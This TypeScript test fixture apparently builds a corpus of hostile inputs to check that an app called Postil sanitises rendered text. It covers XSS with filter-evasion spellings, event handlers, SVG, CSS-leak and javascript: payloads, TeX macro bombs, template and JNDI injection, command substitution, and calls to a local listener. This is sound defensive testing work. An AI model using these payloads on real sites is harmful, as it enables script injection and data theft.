/**
 * Texts that try to be more than text, written for Postil in the manner of the known classes of attack. Where they run
 * they set `postilCanary` in the page, or ask for something at the given address.
 */

import {
  controls,
  directions,
  formats,
  formulas,
  homoglyphs,
  longWords,
  paths,
  queries,
  terminals,
} from './plain-payloads.ts';

/** A hostile text and the class that it belongs to. */
export interface Payload {
  readonly kind: string;
  readonly text: string;
}

const RUN = 'window.postilCanary=1';

/** The whole corpus. `address` is that of a listening server: `http://127.0.0.1:1234`. */
export function hostilePayloads(address: string): readonly Payload[] {
  const kinds: Readonly<Record<string, readonly string[]>> = {
    script: scripts(address),
    'event handler': eventHandlers(address),
    svg: drawings(address),
    css: styles(address),
    link: links(address),
    markdown: markdown(address),
    math: math(address),
    template: templates(),
    terminal: terminals(),
    direction: directions(),
    homoglyph: homoglyphs(),
    formula: formulas(address),
    control: controls(),
    long: longWords(),
    path: paths(),
    format: formats(),
    query: queries(),
  };
  return Object.entries(kinds).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
}

function scripts(address: string): string[] {
  return [
    `<script>${RUN}</script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script src="${address}/a.js"></script>`,
    `<script src=//${address.slice(7)}/b.js>`,
    `<script type=module>import("${address}/c.js")</script>`,
    `<script\n>${RUN}</script\n>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `</script><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `--><script>${RUN}</script><!--`,
    `]]><script>${RUN}</script>`,
    `"><script>${RUN}</script>`,
    `'><script>${RUN}</script>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `＜script＞${RUN}＜/script＞`,
    `<script>fetch("${address}/d")</script>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="${address}/frame"></iframe>`,
    `<object data="${address}/object"></object>`,
    `<embed src="${address}/embed">`,
    `<applet code="${address}/applet"></applet>`,
    `<meta http-equiv="refresh" content="0;url=${address}/meta">`,
    `<base href="${address}/">`,
    `<form action="${address}/form"><button autofocus>Go</button></form>`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><script>${RUN}</script>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<custom-element is="x">${RUN}</custom-element>`,
    `<dialog open><form method=dialog><button>Allow</button></form></dialog>`,
    `<link rel=prefetch href="${address}/prefetch"><link rel=dns-prefetch href="//postil-canary.example">`,
    `<link rel=preconnect href="${address}"><link rel=modulepreload href="${address}/m.js">`,
    `<a href="#" ping="${address}/ping">ping</a>`,
    `<portal src="${address}/portal"></portal>`,
    `<script>new WebSocket("${address.replace('http', 'ws')}/w")</script>`,
    `<script>new RTCPeerConnection({iceServers:[{urls:"stun:${address.slice(7)}"}]}).createDataChannel("")</script>`,
  ];
}

/** Elements that load, focus or move by themselves, each with what it then runs. */
function eventHandlers(address: string): string[] {
  const elements = [
    '<img src=x onerror=RUN>',
    '<img src="ADDRESS/i.png" onload=RUN>',
    '<body onload=RUN>',
    '<input autofocus onfocus=RUN>',
    '<select autofocus onfocus=RUN>',
    '<textarea autofocus onfocus=RUN>',
    '<details open ontoggle=RUN>',
    '<video src=ADDRESS/v onerror=RUN>',
    '<video><source onerror=RUN></video>',
    '<audio src=x onerror=RUN>',
    '<marquee onstart=RUN>',
    '<div onpointerenter=RUN style="position:fixed;inset:0">',
    '<div contenteditable onblur=RUN autofocus>',
    '<p onanimationstart=RUN style="animation:spin 1s">',
    '<style onload=RUN></style>',
    '<xss onscrollend=RUN>',
    '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=RUN>',
    '<object onerror=RUN data=x>',
    '<track default onerror=RUN>',
    '<keygen autofocus onfocus=RUN>',
  ];
  const written = elements.map((element) => element.replace('RUN', RUN).replace('ADDRESS', address));
  const disguised = written.slice(0, 16).map((element) => element.replace(/ on/, '/\t\u000con'));
  return [
    ...written,
    ...disguised,
    ...written.slice(0, 16).map((element) => `" ${element.slice(1, -1)} x="`),
  ];
}

function drawings(address: string): string[] {
  return [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="${address}/s.js"/></svg>`,
    `<svg><a href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
    `<svg><use href="${address}/u.svg#a"/></svg>`,
    `<svg><image href="${address}/i.svg"/></svg>`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"/></foreignObject></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to="javascript:${RUN}">`,
    `<svg><style>@import "${address}/s.css";</style></svg>`,
    `<svg><filter><feImage href="${address}/fe.png"/></filter></svg>`,
    `<?xml-stylesheet href="${address}/x.xsl"?><svg/>`,
    `<!DOCTYPE a [<!ENTITY b SYSTEM "${address}/entity">]><a>&b;</a>`,
    `<math><maction actiontype="statusline#${address}" xlink:href="javascript:${RUN}">a</maction></math>`,
  ];
}

function styles(address: string): string[] {
  return [
    `<style>*{background:url(${address}/css)}</style>`,
    `<style>@import url(${address}/import.css);</style>`,
    `<style>@font-face{font-family:a;src:url(${address}/font)}*{font-family:a}</style>`,
    `<p style="background:url(${address}/p)">a</p>`,
    `<p style="position:fixed;inset:0;z-index:99999;background:red">Pay here</p>`,
    `<style>input[value^=a]{background:url(${address}/leak-a)}</style>`,
    `<p style="width:expression(${RUN})">a</p>`,
    `<p style="-moz-binding:url(${address}/x.xml#a)">a</p>`,
    `<div class="dialog unseen message-bar">a</div>`,
    `body{display:none}</style>`,
    `url(${address}/bare)`,
    `red;background:url(${address}/colour)`,
    `image-set("${address}/set" 1x)`,
    `--accent:url(${address}/custom)`,
  ];
}

/** Schemes that run or show something, spelled so that filters miss them; as bare texts and as links of Markdown. */
function links(address: string): string[] {
  const targets = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;avascript:${RUN}`,
    `javascript:%0a${RUN}`,
    `javascript://example.org/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cucG9zdGlsQ2FuYXJ5PTE8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg onload=${RUN}>`,
    `vbscript:MsgBox(1)`,
    `file:///etc/hostname`,
    `blob:app://bundle/0`,
    `app://bundle/../../secret`,
    `smb://192.0.2.1/share`,
    `ms-msdt:/id PCWDiagnostic`,
    `postil://paper/1?next=${address}`,
    `postil://paper/../../annotation`,
    `//${address.slice(7)}/relative`,
    `view-source:${address}`,
    `intent://a#Intent;end`,
  ];
  return [...targets, ...targets.map((target) => `[read this](<${target}>)`)];
}

function markdown(address: string): string[] {
  return [
    `![a](${address}/image.png)`,
    `![a](javascript:${RUN})`,
    `![a][b]\n\n[b]: ${address}/reference.png`,
    `[a][b]\n\n[b]: javascript:${RUN}`,
    `<javascript:${RUN}>`,
    `<${address}/autolink>`,
    `${address}/bare-link`,
    `www.example.org/${RUN}`,
    `[a](${address}/b "onmouseover=${RUN}")`,
    `[a](x" onmouseover="${RUN})`,
    `[<img src=x onerror=${RUN}>](https://example.org)`,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `\`<img src=x onerror=${RUN}>\``,
    `[^1]\n\n[^1]: <script>${RUN}</script>`,
    `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
    `- [ ] <input autofocus onfocus=${RUN}>`,
    `# <svg onload=${RUN}>`,
    `<!-- <script>${RUN}</script> -->`,
    `<details><summary>a</summary>![b](${address}/details.png)</details>`,
    `[a]: <javascript:${RUN}> '"><script>${RUN}</script>'`,
    `${'> '.repeat(150)}deep`,
    `${'['.repeat(300)}a${']'.repeat(300)}`,
    `${'*_'.repeat(300)}a`,
    `${'- '.repeat(100)}a`,
    `[![a](${address}/inner.png)](${address}/outer)`,
  ];
}

function math(address: string): string[] {
  return [
    `$\\href{javascript:${RUN}}{x}$`,
    `$\\href{${address}/href}{x}$`,
    `$\\url{javascript:${RUN}}$`,
    `$\\includegraphics{${address}/tex.png}$`,
    `$\\includegraphics[height=9em, alt=a]{${address}/tex2.png}$`,
    `$\\htmlClass{dialog}{x}$`,
    `$\\htmlId{root}{x}$`,
    `$\\htmlStyle{position:fixed;inset:0;background:url(${address}/style)}{x}$`,
    `$\\htmlData{onclick=${RUN}}{x}$`,
    '$\\def\\a{\\a\\a}\\a$',
    '$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}}}$',
    `$${Array.from({ length: 20 }, (_, n) => `\\def\\${'abcdefghijklmnopqrstu'[n + 1]}{\\${'abcdefghijklmnopqrstu'[n]}\\${'abcdefghijklmnopqrstu'[n]}}`).join('')}\\u$`,
    '$\\gdef\\frac#1#2{stolen}\\global\\let\\sqrt\\relax$',
    '$\\rule{99999em}{99999em}$',
    '$\\kern{-99999em}\\raisebox{9999em}{x}\\hspace{1e9em}$',
    `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
    `$${'\\sqrt{'.repeat(500)}x${'}'.repeat(500)}$`,
    `$${'x^{'.repeat(300)}x${'}'.repeat(300)}$`,
    `$\\text{<img src=x onerror=${RUN}>}$`,
    `$\\unicode{x3c}script\\unicode{x3e}${RUN}$`,
    '$\\char"202E abc$',
    '$\\color{red;background:url(x)}{x}\\colorbox{#fff"onload=}{y}$',
    '$\\input{/etc/hostname}\\write18{id}\\catcode`\\%=12$',
    '$\\newcommand{\\b}{\\b}\\b$ \\[\\loop\\iftrue\\repeat\\]',
    '$$\\begin{matrix}&&&&&\\\\\\end{matrix}$$',
    '\\begin{equation}\\tag{\\href{javascript:1}{x}}x\\end{equation}',
  ];
}

function templates(): string[] {
  return [
    '{{constructor.constructor("window.postilCanary=1")()}}',
    '{{7*7}}',
    `$\{${RUN}}`,
    '#{7*7}',
    '<%= 7*7 %>',
    '{% import os %}',
    '{{title}} {{authors}} {{__proto__}}',
    '[[\u0024{7*7}]]',
    '@(7*7)',
    '\u0024{jndi:ldap://127.0.0.1/a}',
    `\`$\{${RUN}}\``,
    '$(id) `id` ; id | id && id',
    '__proto__',
    'constructor',
    '{"__proto__":{"postilCanary":1}}',
    "$&$1$`$'$$",
  ];
}
